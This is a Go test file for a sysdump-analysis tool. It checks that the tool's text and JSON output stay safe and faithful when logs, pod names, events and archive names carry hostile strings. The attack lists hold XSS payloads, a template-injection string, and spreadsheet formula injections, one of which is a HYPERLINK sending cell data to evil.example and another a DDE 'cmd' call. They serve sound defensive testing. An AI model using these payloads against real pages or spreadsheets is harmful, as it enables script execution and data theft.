package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Text of the dump that attacks whatever shows the output next: a browser, a renderer of Markdown, a spreadsheet. Sysleuth
// writes text and JSON only; the first must keep its lines, the second must give back exactly what was put in, and be safe
// inside of a page.

// TestHostile06NamesThatBeginAlike: a directory that only begins like a dump's own is another dump.
func TestHostile06NamesThatBeginAlike(t *testing.T) {
	beside := strings.TrimSuffix(top, "/") + "-evil/"
	files := few()
	for _, each := range few() {
		each.name = beside + strings.TrimPrefix(each.name, top)
		each.text = strings.ReplaceAll(each.text, "node1", "evil1")
		files = append(files, each)
	}
	path := filepath.Join(t.TempDir(), "dump.zip")
	if err := os.WriteFile(path, zipped(t, files...), 0o600); err != nil {
		t.Fatal(err)
	}
	if code, stdout, stderr := command("facts", path); code != exitNoDump || stdout != "" || !strings.Contains(stderr, "holds 2 sysdumps") {
		t.Errorf("exit code %d; %s", code, stderr)
	}
	for dump, want := range map[string][2]string{strings.TrimSuffix(top, "/"): {"node1", "evil1"}, strings.TrimSuffix(beside, "/"): {"evil1", "node1"}} {
		code, stdout, stderr := command("facts", path, "--dump="+dump)
		if code != exitAnalysed || !strings.Contains(stdout, want[0]) || strings.Contains(stdout, want[1]) {
			t.Errorf("%s: exit code %d; %s: want %s alone", dump, code, stderr, want[0])
		}
	}
	if code, _, _ := command("facts", path, "--dump=healthy-1"); code != exitNoDump {
		t.Errorf("a dump was picked by the beginning of its name: exit code %d", code)
	}
}

// TestHostile06DirectoryBesideIt: a directory is read no further than itself, whatever the one beside it is called.
func TestHostile06DirectoryBesideIt(t *testing.T) {
	here := t.TempDir()
	dump, beside := filepath.Join(here, "dump"), filepath.Join(here, "dump-evil")
	for directory, files := range map[string][]entry{dump: few(), beside: {{name: top + "k8s-services-20261123-025122.yaml", text: textOf(podsFile)}}} {
		for _, each := range files {
			path := filepath.Join(directory, each.name)
			if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(path, []byte(each.text), 0o600); err != nil {
				t.Fatal(err)
			}
		}
	}
	for _, name := range []string{"k8s-services-20261123-025122.yaml", "..evil"} {
		if err := os.Symlink("../../dump-evil/"+top+"k8s-services-20261123-025122.yaml", filepath.Join(dump, top, name)); err != nil {
			t.Fatal(err)
		}
	}
	a := analysedPath(t, dump)
	a.losesNothing(t)
	a.knowsTheDump(t)
	a.ignores(t, "k8s-services-20261123-025122.yaml: ignored: a symbolic link", "..evil: ignored: a symbolic link")
}

var attacksOnPages = []string{
	`</script><script>alert(1)</script>`,
	`<!--<script>`,
	`<img src=x onerror=alert(1)>`,
	`"><a href="javascript:alert(1)">x</a>`,
	`{{constructor.constructor('alert(1)')()}}`,
}

var attacksOnDocuments = []string{
	"[x](javascript:alert(1)) ![x](https://evil.example/x.png)",
	"| a | b |` ``` ~~~ # x",
	`=HYPERLINK("https://evil.example/?"&A1,"x")`,
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"]]></system-out><testcase name=\"x\"/>",
	"illegal in XML: \x01\x0b\x1f\ufffe\uffff",
	"::error file=x::y",
}

// TestHostile26Pages: JSON can stand in a script of a page, and gives back what was put in.
func TestHostile26Pages(t *testing.T) { showsAsIs(t, attacksOnPages) }

// TestHostile27Documents: no text breaks a line or a row.
func TestHostile27Documents(t *testing.T) { showsAsIs(t, attacksOnDocuments) }

// showsAsIs plants texts in the agent's log, in an event, and in the name of a pod.
func showsAsIs(t *testing.T, attacks []string) {
	t.Helper()
	var log, events, pods strings.Builder
	for i, attack := range attacks {
		quoted, err := json.Marshal(attack)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(&log, "2026-11-23T02:51:24.5Z time=2026-11-23T02:51:24.5Z level=error msg=%q\n", attack)
		fmt.Fprintf(&events, "- count: 1\n  involvedObject:\n    kind: Pod\n    name: x%d\n    namespace: demo\n  lastTimestamp: \"2026-11-23T02:51:00Z\"\n  message: %s\n  reason: Failed\n  type: Warning\n", i, quoted)
		fmt.Fprintf(&pods, "- metadata:\n    name: %s\n    namespace: demo\n  spec:\n    nodeName: node1\n  status:\n    phase: Failed\n", quoted)
	}
	archive := changedSample(t, "node1/agent.log+", log.String(), "k8s-events.yaml", intoItems(eventsFile, events.String()), "k8s-pods.yaml", intoItems(podsFile, pods.String()))
	a := analysed(t, archive) // which looks at controls
	a.knowsTheDump(t)
	checkEmbeddable(t, a.json)
	path := filepath.Join(t.TempDir(), "dump.zip")
	if err := os.WriteFile(path, archive, 0o600); err != nil {
		t.Fatal(err)
	}
	for table, field := range map[string]string{"pods": "name", "events": "message"} {
		code, rows, stderr := command("facts", path, "--table="+table)
		if code != exitAnalysed {
			t.Fatalf("exit code %d; %s", code, stderr)
		}
		checkSafe(t, rows)
		checkEmbeddable(t, rows)
		got := valuesOf(t, rows, field)
		for _, attack := range attacks {
			if !got[attack] {
				t.Errorf("%s does not give back %q", table, attack)
			}
		}
		code, answers, stderr := command("query", path, "--format=jsonl", "some row in data.sysdump."+table+"; value := row."+field)
		_, shown, _ := command("query", path, "--format=table", "some row in data.sysdump."+table+"; value := row."+field)
		if code != exitAnalysed || strings.Count(answers, "\n") < len(attacks) || strings.Count(shown, "\n") != strings.Count(answers, "\n")+1 {
			t.Errorf("%s: exit code %d, %s: rows are broken:\n%s\n%s", table, code, stderr, answers, shown)
		}
		checkSafe(t, shown)
		checkEmbeddable(t, answers)
	}
}

const eventsFile = top + "k8s-events-20261123-025122.yaml"

// intoItems puts items at the head of a list of the sample dump.
func intoItems(file, items string) string {
	return strings.Replace(textOf(file), "items:\n", "items:\n"+items, 1)
}

// checkEmbeddable wants JSON that ends no script of a page.
func checkEmbeddable(t *testing.T, text string) {
	t.Helper()
	for _, mark := range []string{"</", "<!", "\u2028"} {
		if at := strings.Index(text, mark); at >= 0 {
			t.Errorf("%q in JSON: %s", mark, text[max(0, at-40):min(len(text), at+40)])
		}
	}
}

// valuesOf are the values of a field in rows of JSON, a row a line.
func valuesOf(t *testing.T, rows, field string) map[string]bool {
	t.Helper()
	values := map[string]bool{}
	for line := range bytes.Lines([]byte(rows)) {
		var row map[string]any
		if err := json.Unmarshal(line, &row); err != nil {
			t.Fatalf("%v: %s", err, line)
		}
		if value, isText := row[field].(string); isText {
			values[value] = true
		}
	}
	return values
}

// TestHostile27NamesOfArchives: a name of a file can't add a row to the overview of many dumps.
func TestHostile27NamesOfArchives(t *testing.T) {
	directory := t.TempDir()
	names := []string{"=cmd|' \nx.zip", "a | b\r\x1b[31m.zip", "<b>.zip"}
	for _, name := range names {
		if err := os.WriteFile(filepath.Join(directory, name), zipped(t, few()...), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	code, table, stderr := command("triage", directory)
	if code != exitAnalysed || stderr != "" || strings.Count(table, ".zip") != len(names) {
		t.Errorf("exit code %d; %s\n%s", code, stderr, table)
	}
	checkSafe(t, table)
	code, rows, stderr := command("triage", "--format=jsonl", directory)
	if code != exitAnalysed || strings.Count(rows, "\n") != len(names) {
		t.Errorf("exit code %d; %s\n%s", code, stderr, rows)
	}
	paths := valuesOf(t, rows, "path")
	for _, name := range names {
		if !paths[filepath.Join(directory, name)] {
			t.Errorf("no row of %q: %v", name, paths)
		}
	}
}
